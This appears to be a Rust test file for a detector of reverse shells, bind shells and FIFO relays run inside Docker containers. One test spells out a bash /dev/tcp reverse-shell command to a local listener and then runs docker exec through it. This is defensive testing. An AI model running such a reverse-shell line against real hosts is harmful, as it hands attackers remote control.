//! Attacks from inside docker's containers.

use crate::attack::{Identity, Start, bind_shell, fifo_relay, reverse_shell};
use std::sync::Arc;

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::finding::arguments_of;
use crate::common::victim::Victim;
use crate::common::wait_for;
use crate::docker::{Api, Container, Docker};
use crate::require_docker;

fn in_container(attack: fn(Start, Identity)) {
    Daemon::shared();
    let container: Container = Docker::shared().sleeper();
    attack(&|line| container.exec(line), Identity::new(&container.id, "docker"));
}

#[test]
fn docker_reverse_shell() {
    require_docker!();
    in_container(reverse_shell);
}

#[test]
fn docker_bind_shell() {
    require_docker!();
    in_container(bind_shell);
}

#[test]
fn docker_fifo_relay() {
    require_docker!();
    in_container(fifo_relay);
}

/// dockerd has the session's connection, and is excused for that; what is started in the session is not.
#[test]
fn docker_attacks_in_a_session_over_tcp() {
    require_docker!();
    Daemon::shared();
    let container = Docker::shared().sleeper();
    let identity = Identity::new(&container.id, "docker");
    for attack in [reverse_shell, fifo_relay] {
        attack(&|line| container.exec_over(Api::Tcp, line), identity);
    }
}

/// In a reverse shell on the host somebody runs `docker exec`: the shell in the container hangs on the attacker's
/// connection through docker's client, dockerd and a shim.
#[test]
fn docker_exec_from_a_reverse_shell() {
    require_docker!();
    Daemon::shared();
    // A client over TCP would be taken for the shell's own, and be excused.
    let docker = Arc::new(Docker::alone());
    let container = docker.sleeper();
    let attacker = Listener::tcp();
    let line = format!("exec 5<>/dev/tcp/127.0.0.1/{}; exec sh <&5 >&5 2>&5", attacker.port());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let mut session = attacker.accept();
    session.run("id");
    session.send(&format!("{}\n", docker.cli(Api::Unix, &format!("exec -i {} /bin/sh", container.name))));
    // The outer shell would read on.
    wait_for("the shell in the container", || crate::home::inside(&container.id, b"/bin/sh\0"));
    session.run("hostname");
    let inside = |process: &serde_json::Value| arguments_of(process) == ["/bin/sh"];
    let found = Daemon::shared().wait_for("the shell in the container", |record| {
        record.peer_port() == Some(attacker.port()) && record.processes().iter().any(inside)
    });
    let shell = found.processes().iter().find(|process| inside(process)).unwrap();
    assert_eq!(shell["binary"]["path"], "/bin/busybox", "{}", found.brief());
    drop((session, victim));
}
